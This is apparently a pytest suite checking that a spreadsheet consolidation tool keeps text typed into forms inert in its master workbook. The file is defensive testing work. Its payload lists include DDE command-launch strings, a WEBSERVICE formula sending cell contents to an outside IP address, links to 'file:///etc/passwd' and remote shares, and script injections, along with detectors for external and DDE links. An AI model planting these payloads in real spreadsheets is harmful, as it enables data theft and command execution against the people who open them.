"""What is typed into a form stays text in the master: in no formula, in no link, in no reference to another file."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from support import PLAN, write_return
from xlsxwriter.worksheet import Worksheet

from moralxl import master
from moralxl.consolidate import consolidate
from moralxl.layout import layout
from moralxl.master import write_master
from moralxl.returns import take_in, walk

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=-", "==", "'=", "{=", "＝", "\u200b=", "\ufeff=")
CALLS = (
    'HYPERLINK("http://198.51.100.1/","ดูแนบ")',
    "1+1",
    "cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "[x.xlsx]Sheet1!A1",
    'WEBSERVICE("http://198.51.100.1/"&A1)',
)
OTHERS = (
    "http://198.51.100.1/a?b=c",
    "https://198.51.100.1",
    "mailto:a@example.invalid",
    "ftp://198.51.100.1/x",
    "file:///etc/passwd",
    "\\\\198.51.100.1\\share\\x.xlsx",
    "internal:แบบรายงาน!A1",
    "external:x.xlsx",
    "#แบบรายงาน!A1",
    "<script>alert(1)</script>",
    "]]><f>1+1</f>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "</t></is></c><c r='A1'><f>1+1</f></c>",
    "{%s}",
    "{0.__class__}",
    "_x003D_1+1",
)
PAYLOADS = [*OTHERS, *(start + call for start in STARTS for call in CALLS)][:100]


ROUND = PLAN.round(9)
ROTATIONS = 9  # with twelve divisions each text field of a return has then held every payload


def returned(folder, shift, word=""):
    """Returns of all divisions with a payload (or a plain word) in every input, event rows up to the third."""
    folder.mkdir()
    number = shift
    for division in PLAN.divisions:
        answers = {}
        for field in layout(PLAN, ROUND, division).fields:
            if (field.event_row or 0) <= 3:
                answers[field.key] = word or PAYLOADS[number % len(PAYLOADS)]
                number += 7  # has no divisor in common with a hundred
        write_return(folder / f"{division.code}xlsx", division.code, answers, change=as_text)
    return take_in(walk(folder, PLAN), PLAN, ROUND)


def as_text(book):
    """What begins with "=" was typed with an apostrophe before it, or openpyxl makes it a formula."""
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and cell.value in PAYLOADS:
                    cell.data_type = "s"


def typed_anew(submission, shift):
    """The same return with other payloads in its texts."""
    records = [
        r._replace(value=payload, typed=payload) if r.role in TEXTS else r
        for number, r in enumerate(submission.records)
        for payload in [PAYLOADS[(number + shift) % len(PAYLOADS)]]
    ]
    return replace(submission, records=tuple(records))


TEXTS = frozenset(
    f.role for d in PLAN.divisions for f in layout(PLAN, ROUND, d).fields if f.kind in {"text", "long_text"}
)


WHOLE = [cell for payload in PAYLOADS for cell in {payload, payload.strip(), payload.lstrip("=+-@ \t\r\n\u200b\ufeff")}]
LEADS = re.compile("'[^'!\\[\\]]+'![A-Z]+[0-9]+")  # to a cell of this workbook
CALL = re.compile(r"([A-Z][A-Z0-9.]+)\(")
# all that the program's own formulas call
CALLED = {
    *("AND", "CHAR", "COUNT", "COUNTA", "COUNTIF", "COUNTIFS", "HYPERLINK", "IF", "IFERROR", "INDEX", "INT"),
    *("ISNUMBER", "LEFT", "LOWER", "MATCH", "MAX", "MID", "MIN", "N", "OR", "ROUND", "ROUNDDOWN", "ROUNDUP", "ROW"),
    *("SMALL", "SUBSTITUTE", "SUM", "SUMPRODUCT", "TEXT", "VLOOKUP"),
}


def active(report, path):
    """All in a master that a program would compute, follow or fetch, but for what the program itself puts there."""
    master = write_master(report, path)
    book, shown = openpyxl.load_workbook(master), openpyxl.load_workbook(master, data_only=True)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    with zipfile.ZipFile(master) as archive:
        inside = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    found = {(c.parent.title, "formula", c.value) for c in cells if c.data_type == "f" and not own(c.value)}
    links = [(c.parent.title, c.hyperlink.target or c.hyperlink.location) for c in cells if c.hyperlink]
    found |= {(title, "link", target) for title, target in links if not LEADS.fullmatch(target)}
    found |= {
        (name, "outside", "") for name, text in inside.items() if re.search('externalLink|Mode="External"', name + text)
    }
    found |= {(name, "dde", "") for name, text in inside.items() if re.search("<(ddeLink|oleLink|dbPr|webPr)", text)}
    texts = {c.value for sheet in shown for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    return found, texts


def own(formula):
    """Whether a formula is the program's: it holds nothing typed, calls nothing strange and stays in the workbook."""
    bare = re.sub('"(?:[^"]|"")*"', '""', formula)
    quoted = re.findall('"((?:[^"]|"")*)"', formula)
    typed = any(text in formula for text in WHOLE if len(text) > 3)
    leads_out = any(not text.startswith("#") for text in re.findall(r'HYPERLINK\("([^"]*)', formula))
    strange = set(CALL.findall(bare)) - CALLED or "[" in bare or "|" in bare or "://" in "".join(quoted)
    return not (typed or leads_out or strange)


@pytest.fixture(scope="module")
def taken(tmp_path_factory):
    return returned(tmp_path_factory.mktemp("injection") / "returns", 0)


def test_there_are_a_hundred_payloads():
    assert len(set(PAYLOADS)) == 100


def test_payloads_in_returned_files_stay_text(taken, tmp_path):
    """Through files: texts reach the master's cells, what stands in figures and dates its findings."""
    submissions, findings = taken
    assert {str(s.status) for s in submissions} == {"accepted"}
    found, texts = active(consolidate(PLAN, ROUND, submissions, findings), tmp_path / "master.xlsx")
    assert found == set()
    assert sum(payload in texts for payload in PAYLOADS) > 50  # they did reach it


@pytest.mark.parametrize("shift", range(1, ROTATIONS))
def test_every_text_field_holds_every_payload(shift, taken, tmp_path):
    submissions = [typed_anew(s, 100 * shift // ROTATIONS + 37 * n) for n, s in enumerate(taken[0])]
    found, _ = active(consolidate(PLAN, ROUND, submissions, []), tmp_path / "master.xlsx")
    assert found == set()


def test_a_live_formula_would_be_seen(taken, tmp_path, monkeypatch):
    monkeypatch.setattr(master, "OPTIONS", {"in_memory": True})  # XlsxWriter's own defaults
    monkeypatch.setattr(Worksheet, "write_string", lambda self, *cell: self.write(*cell))
    found, _ = active(consolidate(PLAN, ROUND, *taken), tmp_path / "master.xlsx")
    assert {kind for _, kind, _ in found} >= {"formula", "link", "outside"}
    assert any("WEBSERVICE" in what for _, _, what in found)
